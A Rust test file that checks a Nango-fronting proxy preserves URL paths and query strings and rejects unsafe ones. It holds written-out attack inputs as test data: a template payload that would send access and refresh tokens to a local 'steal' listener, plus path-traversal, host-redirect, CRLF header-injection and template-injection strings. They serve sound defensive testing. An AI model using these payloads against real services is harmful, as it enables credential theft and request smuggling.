//! Paths and queries arrive with the caller's meaning, or the call is rejected.

use std::time::Duration;

use percent_encoding::percent_decode_str;
use reqwest::Method;
use serde_json::Value;
use tokio::net::TcpListener;
use tokio::time::timeout;
use url::form_urlencoded;

use super::Caller;

/// Returns every printable ASCII character unencoded, encoded once, and encoded twice.
fn characters() -> impl Iterator<Item = (u8, [String; 3])> {
    (0x20..0x7F_u8).map(|byte| {
        let raw = char::from(byte).to_string();
        (
            byte,
            [raw, format!("%{byte:02X}"), format!("%25{byte:02x}")],
        )
    })
}

fn decoded(text: &str) -> Vec<u8> {
    percent_decode_str(text).collect()
}

fn pairs(query: &str) -> Vec<(String, String)> {
    form_urlencoded::parse(query.as_bytes())
        .into_owned()
        .collect()
}

/// Returns `true` if there are only unreserved characters and escapes between the delimiters.
fn is_encoded(text: &str, delimiters: &str) -> bool {
    let allowed =
        |c: char| c.is_ascii_alphanumeric() || "-._~%".contains(c) || delimiters.contains(c);
    text.chars().all(allowed)
}

#[tokio::test]
async fn printable_characters_arrive_in_paths() {
    let caller = Caller::new().await;
    for (byte, forms) in characters() {
        for (times, form) in forms.iter().enumerate() {
            // These two end the path.
            if times == 0 && matches!(byte, b'?' | b'#') {
                continue;
            }
            let (status, seen) = caller.raw(&format!("inspect/a{form}b")).await;
            let is_uri = times > 0 || !matches!(byte, b' ' | b'<' | b'>' | b'`');
            if !is_uri || byte == b'\\' {
                assert_eq!(status, 400, "{form}: {seen}");
                continue;
            }
            assert_eq!(status, 200, "{form}: {seen}");
            let path = seen["path"].as_str().unwrap();
            assert_eq!(decoded(path), decoded(&format!("/a{form}b")), "{form}");
            assert!(is_encoded(path, "/:"), "{form}: {path}");
        }
    }
}

#[tokio::test]
async fn printable_characters_arrive_in_queries() {
    let caller = Caller::new().await;
    for (byte, forms) in characters() {
        for (times, form) in forms.iter().enumerate() {
            // It ends the query.
            if times == 0 && byte == b'#' {
                continue;
            }
            let query = format!("a{form}b=c{form}d&e");
            let (status, seen) = caller.raw(&format!("inspect?{query}")).await;
            if times == 0 && matches!(byte, b' ' | b'<' | b'>' | b'"') && status == 400 {
                continue;
            }
            assert_eq!(status, 200, "{form}: {seen}");
            let arrived = seen["query"].as_str().unwrap();
            assert_eq!(pairs(arrived), pairs(&query), "{form}");
            assert!(is_encoded(arrived, "=&"), "{form}: {arrived}");
        }
    }
}

#[tokio::test]
async fn template_in_query_is_not_evaluated() {
    let caller = Caller::new().await;
    let evil = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = evil.local_addr().unwrap();
    let attack =
        format!("u=${{nope}}||http://{address}/steal?rt=${{refresh_token}}&at=${{access_token}}");
    let encoded: String = form_urlencoded::byte_serialize(attack.as_bytes()).collect();
    for query in [
        attack.as_str(),
        &format!("u={encoded}"),
        &attack.replace('$', "%24"),
    ] {
        let (status, seen) = caller.raw(&format!("inspect?{query}")).await;
        assert_eq!(status, 200, "{query}: {seen}");
        assert_eq!(
            pairs(seen["query"].as_str().unwrap()),
            pairs(query),
            "{query}"
        );
    }
    let stolen = timeout(Duration::from_millis(200), evil.accept()).await;
    assert!(stolen.is_err(), "a call reached another host");
    for received in caller.received().await {
        assert!(!received.contains(['$', '{', '}', '|']), "{received}");
    }
}

#[tokio::test]
async fn unsafe_paths_are_rejected() {
    let caller = Caller::new().await;
    for path in [
        // Dot segments, in every encoding, also for reverse proxies that decode repeatedly.
        "..",
        ".",
        "a/../..",
        "..%2fintegrations%2fgmail?include=credentials",
        "..%2Fconnections",
        "a/%2e%2e/%2E%2E/connections",
        "%252e%252e%252fconnections",
        "a%25252f..%25252f..%25252fconnections",
        "%2%65%2%65/connections",
        "..;/connections",
        "a/..%3bx=1/..;/connections",
        "a%2f.%2fb",
        // A backslash, which some servers read as a slash.
        "a\\..\\..\\connections",
        "a%5C..%5Cconnections",
        "a%255c..%255cconnections",
        // Another host.
        "/evil.example/x",
        "%2fevil.example/x",
        "%252f%252fevil.example/x",
        "https:evil.example",
        "HTTP%3A//evil.example/x",
        "%20https:evil.example",
        // Characters that end or split a line.
        "a%00b",
        "a%0d%0aHost:%20evil.example",
        "a%250d%250ab",
        "a%7fb",
        "a%c2%85b",
        // Templates, which a reverse proxy in front of Nango may decode.
        "${access_token}",
        "%24%7Baccess_token%7D",
        "%2524%257Baccess_token%257D",
        "a||http:%2f%2fevil.example",
        "a%7C%7Cb",
        "a|%257cb",
        // Not UTF-8.
        "a%ffb",
        "%c0%ae%c0%ae/connections",
        "%25c0%25ae/connections",
    ] {
        let (status, problem) = caller.raw(path).await;
        assert_eq!(
            (status, &problem["code"]),
            (400, &"invalid_request".into()),
            "{path}"
        );
    }
    assert_eq!(caller.received().await, Vec::<String>::new());
}

#[tokio::test]
async fn ordinary_paths_arrive_unchanged() {
    let caller = Caller::new().await;
    for (sent, arrived) in [
        ("a/b/", "/a/b/"),
        ("a//b", "/a//b"),
        ("...", "/..."),
        ("users/ada@example.com", "/users/ada%40example.com"),
        (
            "sites/https%3A%2F%2Fwww.example.com%2F/q",
            "/sites/https%3A%2F%2Fwww.example.com%2F/q",
        ),
        // Google's custom methods require this form.
        ("v4/values/A1:B2:append", "/v4/values/A1%3AB2:append"),
        ("Users('ada')", "/Users%28%27ada%27%29"),
        ("gr%C3%BC%C3%9Fe", "/gr%C3%BC%C3%9Fe"),
        ("100%", "/100%25"),
        ("$batch", "/%24batch"),
        // Nango would rename it.
        ("connectionConfig", "/connectionConfi%67"),
        ("a/https://example.com/b", "/a/https%3A//example.com/b"),
    ] {
        let (status, seen) = caller.raw(&format!("inspect/{sent}")).await;
        assert_eq!(
            (status, &seen["path"]),
            (200, &arrived.into()),
            "{sent}: {seen}"
        );
    }
    for (sent, arrived) in [
        ("", Value::Null),
        ("a", "a".into()),
        ("a=&=b", "a=&=b".into()),
        ("a=b=c&&a=d", "a=b%3Dc&a=d".into()),
        (
            "$filter=a eq 'b'".replace(' ', "+").as_str(),
            "%24filter=a%20eq%20%27b%27".into(),
        ),
        ("a=%0A%ff", "a=%0A%FF".into()),
        (
            "connectionConfig=../..",
            "connectionConfi%67=..%2F..".into(),
        ),
    ] {
        let (status, seen) = caller.raw(&format!("inspect?{sent}")).await;
        assert_eq!((status, &seen["query"]), (200, &arrived), "{sent}: {seen}");
    }
    let (status, _) = caller.raw("no-such-api").await;
    assert_eq!(status, 404);
}

#[tokio::test]
async fn ended_connection_cannot_be_called() {
    let caller = Caller::new().await;
    let ada = caller.app.user("ada").await;
    ada.disconnect("gmail", "").await;
    let answer = caller.request(Method::GET, "inspect").send().await.unwrap();
    assert_eq!(answer.status(), 404);
    assert_eq!(
        answer.json::<Value>().await.unwrap()["code"],
        "not_connected"
    );
}
